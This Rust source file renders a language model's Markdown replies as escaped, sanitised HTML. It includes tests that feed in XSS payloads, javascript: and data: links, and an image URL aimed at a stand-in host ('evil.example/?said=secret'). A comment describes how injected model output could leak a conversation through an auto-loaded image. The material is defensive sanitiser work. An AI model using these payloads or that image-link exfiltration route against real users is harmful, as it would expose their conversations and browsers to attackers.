//! What a model says, as HTML.

use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
use std::fmt::{self, Display};

/// Text beyond this is shown as it is: what is made of it may be many times as long, in bytes.
const MARKDOWN_BYTES_MAX: usize = 256 * 1024;
/// Where links may lead.
const SCHEMES: [&str; 3] = ["https://", "http://", "mailto:"];

/// HTML that is made of Markdown.
///
/// SECURITY: a model may write whatever a stranger made it write. Tags in the text are shown as text, so all HTML comes from the
/// writer, which escapes; pictures are links to them, as one that is loaded by itself would carry what was said to a stranger's
/// server; links lead out only when somebody follows them, and tell nobody where from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Markdown(String);

impl Markdown {
    /// What `text` looks like.
    pub(crate) fn of(text: &str) -> Self {
        let mut out = String::with_capacity(text.len() * 2);
        if text.len() > MARKDOWN_BYTES_MAX {
            html::push_html(&mut out, std::iter::once(Event::Text(CowStr::Borrowed(text))));
            return Self(format!("<p class=\"talk-text\">{out}</p>"));
        }
        let options =
            Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
        let mut links = vec![];
        let events = Parser::new_ext(text, options).filter_map(|event| shown(event, &mut links));
        html::push_html(&mut out, events);
        // What is wide is scrolled, by keyboard too. What somebody wrote has no tags: these are the renderer's own.
        Self(out.replace("<pre><code", "<pre tabindex=\"0\"><code"))
    }
}

impl Display for Markdown {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// What is shown of an event; `links` says of each link that is open whether it is shown as one.
fn shown<'a>(event: Event<'a>, links: &mut Vec<bool>) -> Option<Event<'a>> {
    match event {
        Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
        // The page has headings of its own.
        Event::Start(Tag::Heading { level, .. }) => Some(Event::Start(Tag::Heading {
            level: lower(level),
            id: None,
            classes: vec![],
            attrs: vec![],
        })),
        Event::End(TagEnd::Heading(level)) => Some(Event::End(TagEnd::Heading(lower(level)))),
        Event::Start(Tag::HtmlBlock) | Event::End(TagEnd::HtmlBlock) => None,
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
            // One in another one leads nowhere: no reader could tell which it is.
            let leads = leads_out(&dest_url) && !links.contains(&true);
            links.push(leads);
            leads.then(|| {
                let url = escaped(&dest_url);
                let link = format!(
                    "<a href=\"{url}\" rel=\"noopener noreferrer nofollow\" title=\"{url}\">"
                );
                Event::InlineHtml(link.into())
            })
        }
        Event::End(TagEnd::Link | TagEnd::Image) => {
            links.pop().unwrap_or(false).then(|| Event::InlineHtml("</a>".into()))
        }
        other => Some(other),
    }
}

fn lower(level: HeadingLevel) -> HeadingLevel {
    level.max(HeadingLevel::H3)
}

fn leads_out(url: &str) -> bool {
    let plain = !url.chars().any(|c| c.is_control() || c.is_whitespace());
    let begins = |scheme: &&str| {
        url.get(..scheme.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(scheme))
    };
    plain && SCHEMES.iter().any(begins)
}

/// A text within an attribute's quotes.
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(text: &str) -> String {
        Markdown::of(text).to_string()
    }

    #[test]
    fn what_a_model_writes_is_set_as_it_means_it() {
        assert_eq!(html("a *b* `<c>`"), "<p>a <em>b</em> <code>&lt;c&gt;</code></p>\n");
        assert_eq!(html("# A"), "<h3>A</h3>\n");
        assert!(html("|a|\n|-|\n|b|").starts_with("<table>"));
        assert!(
            html("```rust\nlet a = 1;\n```")
                .contains("<pre tabindex=\"0\"><code class=\"language-rust\">")
        );
    }

    #[test]
    fn no_tag_of_its_own_and_no_picture_comes_through() {
        for text in [
            "<script>alert(1)</script>",
            "a <img src=x onerror=alert(1)> b",
            "<div>\n\n*a*\n\n</div>",
            "![a](https://evil.example/?said=secret)",
            "![a][b]\n\n[b]: https://evil.example/p.png \"t\\\"><script>\"",
            "<style>*{display:none}</style>",
            "<!-- --><svg onload=alert(1)>",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](data:text/html,<script>)",
            "[a](java&#x0A;script:alert(1))",
            "[a](//evil.example)",
            "[a](/account/sign-out)",
            "[a](https:/account/sign-out)",
            "[a](https:account)",
            "<javascript:alert(1)>",
            "[![a](https://b.example/c.png)](https://evil.example)",
            "```\"><script>\nx\n```",
            "[a](https://b.example/\"onmouseover=\"alert(1))",
        ] {
            let html = html(text);
            for tag in html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or("")) {
                let known = ["p", "em", "a", "pre", "code", "/p", "/em", "/a", "/pre", "/code"];
                let name = tag.split(' ').next().unwrap_or("");
                assert!(known.contains(&name), "{text}: {html}");
                assert!(!tag.contains(" on") && !tag.contains("src="), "{text}: {html}");
            }
            let leads = html.split("href=\"").skip(1).all(|rest| rest.starts_with("https://"));
            assert!(leads && !html.contains("javascript:alert(1)\""), "{text}: {html}");
        }
        assert!(html("![a](https://b.example/c.png)").contains(">a</a>"));
    }

    #[test]
    fn what_is_very_long_is_shown_as_it_is() {
        let text = "<b>".repeat(MARKDOWN_BYTES_MAX);
        assert!(html(&text).starts_with("<p class=\"talk-text\">&lt;b&gt;"));
        // Deep nesting takes time that grows with its length only.
        assert!(html(&"[".repeat(100_000)).len() >= 100_000);
        assert!(html(&"> ".repeat(50_000)).len() >= 50_000);
    }
}
